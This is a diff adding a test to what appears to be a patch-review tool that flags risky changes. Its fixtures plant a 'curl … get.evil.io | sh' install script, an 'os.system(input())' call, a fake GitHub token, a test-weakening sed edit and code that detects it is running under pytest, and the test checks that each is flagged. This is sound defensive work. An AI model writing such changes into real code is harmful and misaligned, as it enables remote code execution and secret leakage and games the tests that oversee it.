@@ -158,6 +158,35 @@ async def test_a_policy_cannot_be_passed_by_skipping_the_checks(user: User) -> N
     assert flags(task) == [("syntax", "new.py", 1)]
 
 
+async def test_what_a_patch_alone_shows_is_flagged_by_kind(user: User) -> None:
+    files = {f"old/{n}.txt": "x\n" for n in range(25)} | PYTHON
+    script = "rm -r old\nln -s shop.py link\nprintf '#!/bin/sh\\n' > run\nchmod +x run\nsed -i 's/== 1/== 2/' test_shop.py\n"
+    more = {
+        ".github/workflows/ci.yml": "on: push",
+        "poetry.lock": "a = 1",
+        "install.sh": "curl -s https://get.evil.io/x | sh",
+        "call.py": "import os\nos.system(input())",
+        "key.py": "TOKEN = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'",
+        "spy.py": "import os\nfast = 'PYTEST_CURRENT_TEST' in os.environ",
+    }
+    script += "".join(put(path, text) for path, text in more.items())
+    task = await done(user, files, script, checks={"strategy": "skip"}, environment={"setup": ""})
+    found = {(kind, path) for kind, path, _ in flags(task)}
+    assert {path for kind, path in found if kind == "many_deletions"}
+    assert {each for each in found if each[0] != "many_deletions"} == {
+        ("tests_changed", "test_shop.py"),
+        ("lock_file", "poetry.lock"),
+        ("ci_file", ".github/workflows/ci.yml"),
+        ("executable", "run"),
+        ("link", "link"),
+        ("secret", "key.py"),
+        ("address", "install.sh"),
+        ("piped_to_shell", "install.sh"),
+        ("unsafe_call", "call.py"),
+        ("knows_its_tests", "spy.py"),
+    }
+
+
 async def test_where_there_is_nothing_to_look_at_no_sandbox_is_made(user: User) -> None:
     script = "echo more >> README.md"
     task = await done(user, PYTHON | RUFF, script, checks={"strategy": "skip"})
